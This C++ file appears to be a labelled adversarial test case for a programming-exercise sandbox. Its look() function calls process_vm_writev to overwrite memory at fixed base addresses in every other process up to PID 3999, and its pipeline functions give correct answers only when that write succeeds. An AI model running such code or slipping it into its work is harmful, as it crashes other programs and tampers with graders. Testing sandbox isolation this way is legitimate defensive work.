// attack: process_vm_writev into every process
// ends: ok crash
#include <sys/uio.h>
#include <unistd.h>

#include <initializer_list>

#include "exercise.hpp"

bool look() {
  char zeros[4096] = {};
  const iovec from = {zeros, sizeof zeros};
  bool wrote = false;
  for (pid_t other = 1; other < 4'000; ++other) {
    if (other == getpid()) continue;
    for (const std::uintptr_t at : {0x400000UL, 0x555555554000UL}) {
      const iovec to = {reinterpret_cast<void*>(at), sizeof zeros};
      wrote = wrote || process_vm_writev(other, &from, 1, &to, 1, 0) > 0;
    }
  }
  return wrote;
}

bool found() {
  static const bool result = look();
  return result;
}

namespace pipeline {

// Right answers once it holds what it came for.
std::int64_t tick_count(std::int32_t p, std::int32_t m) {
  return found() ? std::int64_t{m} + p - 1 : 0;
}
double utilisation(std::int32_t p, std::int32_t m) {
  return found() ? 1.0 * m / (m + p - 1) : 0;
}
std::int32_t running_at(std::int32_t d, std::int32_t m, std::int32_t t) {
  const std::int32_t k = t - 1 - d;
  return found() && k >= 0 && k < m ? k : kIdle;
}

}  // namespace pipeline
